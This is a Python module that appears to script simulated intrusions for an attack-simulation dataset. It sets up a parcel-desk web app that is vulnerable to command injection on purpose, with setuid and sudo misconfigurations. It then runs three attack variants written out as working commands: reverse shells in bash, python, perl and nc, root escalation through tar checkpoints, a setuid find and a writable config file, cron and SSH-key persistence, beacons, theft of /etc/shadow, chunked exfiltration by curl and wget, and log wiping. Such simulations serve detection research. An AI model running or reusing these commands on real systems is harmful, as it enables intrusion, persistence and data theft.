"""A parcel desk's printer page hands its field to a shell; the intruder comes in through it and takes the labels."""

from __future__ import annotations

import base64
import urllib.parse
from typing import TYPE_CHECKING

from pages import key_pair
from plot import Storyline, Visit
from storylines._walk import walk

if TYPE_CHECKING:
    from intruder import Intruder, Shell

PORT = 8143
MIDDLE = (3.0, 14.0, 7.0)  # seconds between two acts, by variant

WEAKEN = r"""
set -e
install -d -o www-data -g www-data /srv/despatch /srv/despatch/labels /srv/despatch/out /srv/despatch/etc
cat > /srv/despatch/desk.py <<'EOF'
#!/usr/bin/python3
# Parcel desk of a small shop: labels, printers, daily lists.
import subprocess
from pathlib import Path
from urllib.parse import parse_qsl

import appserver

LABELS = Path("/srv/despatch/labels")


def run(command):
    done = subprocess.run(command, shell=True, text=True, errors="replace", timeout=90, stdin=subprocess.DEVNULL,
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    return done.stdout


def handle(method, path, query, body, headers):
    fields = {key: value[0] if isinstance(value, list) else value for key, value in query.items()}
    if method == "POST":
        fields.update(parse_qsl(body.decode("utf-8", "replace")))
    if path == "/printer":
        return 200, run("ping -c 1 -W 1 " + fields.get("at", "127.0.0.1"))
    if path == "/list":
        name = fields.get("name", "today")
        return 200, run("cd /srv/despatch/labels && tar -czf ../out/" + name + ".tgz . ; ls -l ../out | tail -n 5")
    if path.startswith("/label/"):
        label = LABELS / (path.rpartition("/")[2] + ".txt")
        return (200, label.read_text()) if label.is_file() else (404, "no such label\n")
    return 200, "parcel desk: /printer?at= /list /label/N\n"


appserver.serve(8143, handle, "despatch")
EOF
for n in $(seq 1 99); do
    printf 'Parcel %05d\nTo: customer %d, Sample Street %d, Exampleton\nPhone: 555-01%02d\nWeight: %d g\n' \
        "$n" "$((n * 7))" "$n" "$n" "$((n * 113))" > "/srv/despatch/labels/$n.txt"
done
printf 'CARRIER_USER=parceldesk\nCARRIER_PASSWORD=quince-ferry-27\nDB_URL=sqlite:////srv/despatch/desk.db\n' \
    > /srv/despatch/etc/carrier.env
printf 'KEEP=20\nFOLDER=/srv/despatch/out\n' > /srv/despatch/etc/rotate.conf
chown -R www-data:www-data /srv/despatch
cat > /usr/local/sbin/despatch-rotate <<'EOF'
#!/bin/sh
# keeps the newest daily lists
. /srv/despatch/etc/rotate.conf
ls -1t "$FOLDER" | tail -n "+$KEEP" | while read -r old; do rm -f "$FOLDER/$old"; done
logger -t despatch "lists rotated"
EOF
chmod 755 /usr/local/sbin/despatch-rotate
install -d /usr/local/lib/despatch
install -m 4755 /usr/bin/find /usr/local/lib/despatch/lsfind
cat > /etc/sudoers.d/despatch <<'EOF'
www-data ALL=(root) NOPASSWD: /usr/bin/tar, /usr/local/sbin/despatch-rotate
EOF
chmod 440 /etc/sudoers.d/despatch
printf '*/15 * * * * www-data sudo -n /usr/local/sbin/despatch-rotate\n' > /etc/cron.d/despatch
"""

# Plain and fast: sudo tar, a job in cron.d, a key for root, one archive by curl.
TRIED = r"""
== initial access | TA0001 | The intruder tries commands through the printer page.
T1190 id
T1190 uname -a; cat /etc/debian_version
T1190 pwd; ls -la
? T1190 which python3 perl nc curl
"""
QUICK = r"""
== discovery | TA0007 | Accounts, processes, network and files of the machine.
T1059.004 script -qc /bin/bash /dev/null
T1562.003 export TERM=dumb HISTFILE=/dev/null; unset HISTSIZE
T1033 whoami; groups
T1087.001 cat /etc/passwd | grep -v nologin
T1057 ps -ef --forest | tail -n 40
T1049 netstat -tlnp || ss -tlnp
? T1016 ip -br a; cat /etc/hosts
T1083 ls -la /srv /opt /home /var/backups
T1552.001 cat /srv/despatch/etc/carrier.env
? T1083 find / -xdev -writable -type d 2>/dev/null | grep -v ^/proc | head
== privilege escalation | TA0004 | The page's account may run tar as root, and tar runs what it is told.
T1548.003 sudo -l
T1548.003 sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/bash
T1033 id; cd /root; ls -la
T1003.008 grep -v '[*!]' /etc/shadow | cut -d: -f1,2
== persistence | TA0003 | A job in cron.d that calls home and a key for root.
T1105 curl -s {url} -o /usr/local/sbin/{name} && chmod 755 /usr/local/sbin/{name}
T1053.003 @plant /usr/local/sbin/{name}
T1053.003 echo '* * * * * root /usr/local/sbin/{name}' > /etc/cron.d/{name}
T1098.004 mkdir -p .ssh; chmod 700 .ssh; echo '{public}' >> .ssh/authorized_keys
T1070.006 touch -r /etc/crontab /etc/cron.d/{name} /usr/local/sbin/{name}
== collection | TA0009 | Labels and settings go into one archive.
T1027.010 %oct grep -rls -e password -e secret /srv /opt /etc/cron.d | head
? T1005 ls /srv/despatch/labels | wc -l; cat /srv/despatch/labels/1*.txt | head -n 8
T1560.001 tar czf {pack} /srv/despatch/labels /srv/despatch/etc /etc/shadow 2>/dev/null; ls -l {pack}
== exfiltration | TA0010 | The archive is posted to the intruder's server and removed.
T1048.003 curl -s -F file=@{pack} {depot}/u
T1070.004 rm -f {pack}
T1059.004 exit
T1059.004 exit
"""
BACK = r"""
== return | TA0003 | The new key opens root's account from outside.
T1654 w; tail -n 3 /var/log/auth.log
T1083 crontab -l; ls /etc/cron.d
? T1082 df -h | head -n 3
T1078.003 exit
"""

# Slow: the list form, python, a set-user-id finder, a crontab, pieces of base64.
WEIGHED = r"""
== initial access | TA0001 | The name of a daily list reaches a shell; the first words are tried.
T1190 echo $((61*7))
T1190 whoami
T1190 cat /proc/version
? T1190 ls -ld /var/tmp /tmp /dev/shm
T1190 python3 -V
"""
PATIENT = r"""
== discovery | TA0007 | Bit by bit: who, what, where, and which programs run with more rights.
T1562.003 set +o history
T1070.004 rm /var/tmp/q.py; cd /var/tmp
T1087.001 getent passwd | awk -F: '$3>=1000{print $1,$6}'
T1057 ls -l /proc/[0-9]*/exe 2>/dev/null | awk '{print $NF}' | sort | uniq -c
T1082 df -h / /home 2>/dev/null; free -m; nproc
T1049 cat /proc/net/tcp | awk '{print $2,$4}' | head -n 20
T1083 cat /etc/cron.d/* | grep -v '^#'
? T1069.001 getent group sudo adm
T1518.001 dpkg -l | grep -ciE 'auditd|osquery|falco|ossec'
T1083 find / -xdev -type f -perm -u+s 2>/dev/null
? T1083 getcap -r /usr/bin /usr/sbin /opt 2>/dev/null
== privilege escalation | TA0004 | A copy of find carries the set-user-id bit.
T1548.001 /usr/local/lib/despatch/lsfind --version | head -1
T1548.001 /usr/local/lib/despatch/lsfind /srv/despatch -maxdepth 0 -exec /bin/bash -p \; -quit
T1033 id -u; id -un
T1003.008 head -n 40 /etc/shadow | awk -F: 'length($2)>3' > /var/tmp/.l
T1552.004 ls -la /root /home/*/.ssh
== persistence | TA0003 | A script among the desk's own ones, started by the page account's crontab.
T1027.010 a={left}; b={right}
T1140 printf %s $a$b | base64 -d > {folder}/{task}; chmod 755 {folder}/{task}
T1053.003 @plant {folder}/{task}
T1053.003 python3 -c 'import os; os.setuid(0); os.system("(crontab -l -u www-data; echo \"*/2 * * * * \
{folder}/{task}\") 2>/dev/null | crontab -u www-data -")'
T1053.003 cat /var/spool/cron/crontabs/www-data
T1548.001 cp /bin/bash /usr/local/lib/despatch/lsort; chmod 4755 /usr/local/lib/despatch/lsort
T1070.006 touch -d '2025-03-02 08:14' /usr/local/lib/despatch/*
== collection | TA0009 | The labels are put together with the settings and compressed under a hidden name.
? T1552.001 grep -rliE 'passw|secret|token' /srv /opt /etc/cron.d 2>/dev/null | head
T1074.001 cat /srv/despatch/labels/*.txt > /var/tmp/.m; wc /var/tmp/.m
T1560.001 cat /srv/despatch/etc/*.env /var/tmp/.l >> /var/tmp/.m; xz -9 /var/tmp/.m; ls -l /var/tmp/.m.xz
== exfiltration | TA0010 | Small pieces in base64 leave one after another over HTTP.
T1030 split -b 400 -d /var/tmp/.m.xz /var/tmp/.mp
T1048.003 cd /var/tmp; for p in .mp*; do wget -q -O- --post-data="$(base64 -w0 $p)" {depot}/f/$p; \
sleep $((RANDOM % 4)); done
T1070.004 rm -f .m* .l; ls -la
T1059.004 exit
T1059.004 exit
"""

# Behaves like an administrator of the desk; the rotate script's own settings give root.
ASKED = r"""
== initial access | TA0001 | A line break after the address starts a second command.
T1190 date
T1190 id
T1190 ls /srv/despatch /usr/local/sbin
T1190 cat /usr/local/sbin/despatch-rotate
"""
STEWARD = r"""
== discovery | TA0007 | The looks around that any administrator takes.
T1059.006 python3 -c 'import pty; pty.spawn("/bin/bash")'
T1082 uptime; df -h /
T1057 systemctl status despatch || ps -u www-data -o pid,etime,cmd
T1083 cat /srv/despatch/etc/rotate.conf; ls -la /srv/despatch/etc
T1069.001 sudo -n -l
? T1654 grep -n despatch /var/log/syslog | tail -n 5
T1083 ls -l /etc/cron.d; cat /etc/cron.d/despatch
? T1518 vi --version | head -1; which rsync sqlite3 at
== privilege escalation | TA0004 | The root script reads a settings file that the page's account may write.
T1574 cd /srv/despatch/etc; cp rotate.conf rotate.conf.orig
T1574 echo 'cp /etc/shadow $FOLDER/list.bak; chmod 644 $FOLDER/list.bak' >> rotate.conf
T1548.003 sudo -n /usr/local/sbin/despatch-rotate; ls -l /srv/despatch/out
T1003.008 cut -d: -f1,2 /srv/despatch/out/list.bak | grep '\$'
T1098.004 echo 'install -d -m 700 /root/.ssh; echo "{public}" >> /root/.ssh/authorized_keys' >> rotate.conf
T1548.003 sudo -n /usr/local/sbin/despatch-rotate
T1070.004 mv rotate.conf.orig rotate.conf; rm -f /srv/despatch/out/list.bak
T1059.004 eixt
T1059.004 exit
T1059.004 exit
"""
OPENLY = r"""
== valid account | TA0003 | Logged on as root with the new key, the intruder works in the open.
T1033 last -n 5; who
T1083 ls -la /var/backups /srv
? T1083 cat /etc/at.deny | tail -n 3; ls -l /etc/at.*
T1036.005 install -m 755 /usr/local/sbin/despatch-rotate /usr/local/sbin/{report}
T1059.004 echo 'wget -q -T 4 -O /dev/null {depot}/report/day' >> /usr/local/sbin/{report}
T1053.003 @plant /usr/local/sbin/{report}
T1053.003 echo '*/3 * * * * root /usr/local/sbin/{report}' >> /etc/cron.d/despatch
== collection and exfiltration | TA0009 | A backup in name: rsync to a folder, zip, and out by curl.
T1074.001 mkdir -p /var/backups/despatch; rsync -a /srv/despatch/labels /srv/despatch/etc /var/backups/despatch/
T1560.001 cd /var/backups && zip -qr despatch.zip despatch && ls -lh despatch.zip
T1048.003 curl --data-binary @despatch.zip -H 'Content-Type: application/zip' {depot}/backup/despatch
T1070.004 rm -r despatch despatch.zip
T1070.002 sed -i '/despatch: sudo/d' /var/log/auth.log
T1078.003 exit
"""


def inject(own: Intruder, command: str, technique: str) -> str:
    """One request that carries a command, by the way in of this variant."""
    if own.variant == 1:
        body = urllib.parse.urlencode({"name": f"d;{command};echo "}).encode()
        kind = {"Content-Type": "application/x-www-form-urlencoded"}
        return own.http(own.entry, PORT, "POST", "/list", body, kind, technique=technique)
    glue = ";" if own.variant == 0 else "\n"
    field = urllib.parse.quote("127.0.0.1" + glue + command)
    return own.http(own.entry, PORT, "GET", "/printer?at=" + field, technique=technique)


def come_back(own: Intruder, port: int) -> Shell:
    """The reverse shell of this variant."""
    host, quiet = own.address, ">/dev/null 2>&1 &"
    technique = "T1059.004"
    if own.variant == 0:
        line = f'setsid bash -c "bash -i >& /dev/tcp/{host}/{port} 0>&1" {quiet}'
    elif own.variant == 1:
        code = (
            f'import socket,os,pty;s=socket.create_connection(("{host}",{port}));'
            '[os.dup2(s.fileno(),n) for n in range(3)];pty.spawn("/bin/bash")'
        )
        packed = base64.b64encode(code.encode()).decode()
        line = f"echo {packed}|base64 -d>/var/tmp/q.py;setsid python3 /var/tmp/q.py {quiet}\necho"
        technique = "T1059.006"
    elif own.rng.random() < 0.5:
        perl = (
            f"use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in({port},inet_aton(q({host}))));"
            'open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/bash","-i")'
        )
        line = f"setsid perl -e '{perl}' {quiet}"
    else:
        pipe = f"/tmp/{own.word()}.s"
        line = f"setsid sh -c 'mkfifo {pipe};cat {pipe}|/bin/bash -i 2>&1|nc -N {host} {port} >{pipe}' {quiet}"
    own.step("reverse shell", "TA0002", "A shell comes back to the intruder.")
    return own.catch(port, lambda: inject(own, line, technique), technique)


def settings(own: Intruder, public: str) -> dict[str, str]:
    """Names that the pages of this instance use."""
    name = own.pick(("desk-sync", "labelq", "fstrim-check"))
    beacon = f"#!/bin/sh\ncurl -s -m 4 {own.depot}/s?h=$(hostname) >/dev/null\n"
    code = (
        "#!/usr/bin/python3\nimport urllib.request,socket\ntry:\n"
        f" urllib.request.urlopen('{own.depot}/c/'+socket.gethostname(),timeout=4).read()\nexcept OSError:\n pass\n"
    )
    text = base64.b64encode(code.encode()).decode()
    return {
        "depot": own.depot,
        "public": public,
        "name": name,
        "url": own.offer(name, beacon),
        "pack": f"/tmp/{own.word()}.tgz",
        "folder": "/srv/despatch/etc",
        "task": own.pick(("weekly", "carrier-poll", "prune")),
        "left": text[: len(text) // 2],
        "right": text[len(text) // 2 :],
        "report": own.pick(("despatch-report", "despatch-prune")),
    }


def play(own: Intruder) -> None:
    middle = MIDDLE[own.variant]
    private, public = key_pair(own.pick(("root", "backup")) + "@" + own.entry.name)
    names = settings(own, public)
    first = (TRIED, WEIGHED, ASKED)[own.variant]
    walk(own, first, lambda technique, command, _: inject(own, command, technique), names, middle)
    ports = ((4443, 9090, 5555), (8444, 10443, 3128), (4430, 8081, 2222))[own.variant]
    shell = come_back(own, own.pick(ports))
    walk(own, (QUICK, PATIENT, STEWARD)[own.variant], shell, names, middle)
    shell.close()
    if own.variant == 1:
        return
    own.think(25)
    root = own.ssh(own.entry, "root", key=private, technique="T1078.003")
    walk(own, (BACK, "", OPENLY)[own.variant], root, names, middle)
    root.close()


STORYLINE = Storyline(
    name="web-ping",
    split="train",
    words=(
        "The printer page and the list form of a small parcel desk hand their fields to a shell. From outside the "
        "intruder gets a shell, becomes root through sudo, a set-user-id program or a writable settings file, stays "
        "with cron and an ssh key, and takes the labels away."
    ),
    weaken=WEAKEN,
    services=("www-data: /usr/bin/python3 /srv/despatch/desk.py",),
    visits=(
        Visit(port=PORT, every=25, method="GET", path="/label/{n}"),
        Visit(port=PORT, every=50, method="GET", path="/printer?at=10.20.7.{pick:2|3|4|5}"),
        Visit(port=PORT, every=90, method="POST", path="/list", body="name={word}-{n}"),
    ),
    play=play,
    variants=3,
    hosts=("web-05", "ledger-03"),
    minutes=10,
)
